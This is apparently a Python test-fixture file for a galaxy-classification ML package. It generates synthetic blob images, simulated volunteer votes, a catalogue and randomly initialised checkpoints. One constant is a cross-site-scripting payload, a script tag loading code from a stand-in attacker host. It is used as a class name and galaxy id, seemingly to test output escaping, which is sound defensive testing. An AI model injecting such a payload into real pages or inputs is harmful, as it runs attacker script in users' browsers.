"""A small store of blobs, and checkpoints whose weights are random."""

from __future__ import annotations

import hashlib
from pathlib import Path

import numpy as np
import pandas as pd
import torch
import zarr

from gzsurvey.card import ClassesHead, Credit, Head, LabelsHead, NumberHead, TrainingRange, VotesHead
from gzsurvey.dataset.store import StoreInfo, write_info
from gzsurvey.model.checkpoint import CheckpointInfo, save_checkpoint
from gzsurvey.model.encoder import create_encoder
from gzsurvey.model.network import Network
from gzsurvey.recipes.evaluation import EvaluationRecipe
from gzsurvey.recipes.preparation import Preparation
from gzsurvey.votes.tree import DecisionTree

SIZE, N, TESTED = 32, 330, 300
TREE = DecisionTree.load("gz2")
EVIL = '<script src="https://evil.example/x.js">alert(1)</script>'
QUICK = EvaluationRecipe(resamples=20, gallery=3, bins=2)
HEADS: tuple[Head, ...] = (
    VotesHead(questions=tuple(TREE.to_json())),
    ClassesHead(task="ring", classes=("no", EVIL), balance={"no": 0.5, EVIL: 0.5}),
    LabelsHead(task="tidal", classes=("tail", "shell"), balance={"tail": 0.3, "shell": 0.2}),
    NumberHead(task="size", unit="arcsec", trained_on=TrainingRange(low=0.0, high=9.0)),
)
RNG = np.random.default_rng(11)
ELONGATED = RNG.random(N) < 0.5


def write_store(path: Path, preparation: Preparation | None = None) -> Path:
    """Write bright and faint blobs, with votes of gz2: 30 volunteers, who call the bright ones featured."""
    rng = np.random.default_rng(5)
    y, x = np.mgrid[:SIZE, :SIZE] - (SIZE - 1) / 2
    width = np.where(ELONGATED, 8.0, 3.0)[:, None, None]
    light = 200 * np.exp(-((x / width) ** 2) - (y / 3.0) ** 2)[..., None] + rng.normal(20, 5, (N, SIZE, SIZE, 3))
    images = np.clip(light, 0, 255).astype(np.uint8)
    votes = np.zeros((N, TREE.n_answers), np.int32)
    first, edge_on = TREE.questions[:2]
    votes[:, first.columns] = rng.multinomial(30, np.where(ELONGATED[:, None], [0.1, 0.88, 0.02], [0.85, 0.1, 0.05]))
    featured = votes[:, first.start + 1]
    edge = rng.binomial(featured, 0.3)
    votes[:, edge_on.columns] = np.column_stack([edge, featured - edge])
    path.mkdir(parents=True)
    group = zarr.open_group(path / "store.zarr", mode="w", zarr_format=3)
    for name, data in (("images", images), ("votes", votes)):
        chunks = (32, *data.shape[1:])
        group.create_array(name, shape=data.shape, dtype=data.dtype, chunks=chunks, compressors=None)[...] = data
    pd.DataFrame(
        {
            "id": [EVIL, *(f"g{i}" for i in range(1, N))],
            "source": "blobs",
            "campaign": "gz2",
            "ra": np.linspace(10, 20, N),
            "dec": np.linspace(-5, 5, N),
            "split": np.where(np.arange(N) < TESTED, "test", "train"),
            "assumed_votes": np.arange(N) % 10 == 9,
            "image_sha256": [hashlib.sha256(image.tobytes()).hexdigest() for image in images],
            "r50": rng.uniform(2, 6, N).astype(np.float32),
            "mag": np.full(N, np.nan, np.float32),
        }
    ).to_parquet(path / "galaxies.parquet")
    info = StoreInfo(
        simulated=True,
        preparation=preparation or Preparation(image_size=SIZE),
        questions=tuple(TREE.to_json()),
        galaxies=N,
        credits=(Credit(name="blobs", licence="CC0-1.0", citation="none", galaxies=N),),
        recipe_sha256="0" * 64,
        content_sha256=hashlib.sha256(images.tobytes() + votes.tobytes()).hexdigest(),
    )
    write_info(path, info)
    return path


def write_checkpoint(folder: Path, seed: int, heads: tuple[Head, ...] = HEADS) -> str:
    torch.manual_seed(seed)
    network = Network(create_encoder("test_resnet"), heads).eval()
    info = CheckpointInfo(
        encoder="test_resnet", embedding_size=network.embedding_size, heads=heads,
        preparation=Preparation(image_size=SIZE), trained_by="finetune", simulated=True,
    )  # fmt: skip
    folder.mkdir(parents=True)
    save_checkpoint(folder, "best", network, info)
    return str(folder)
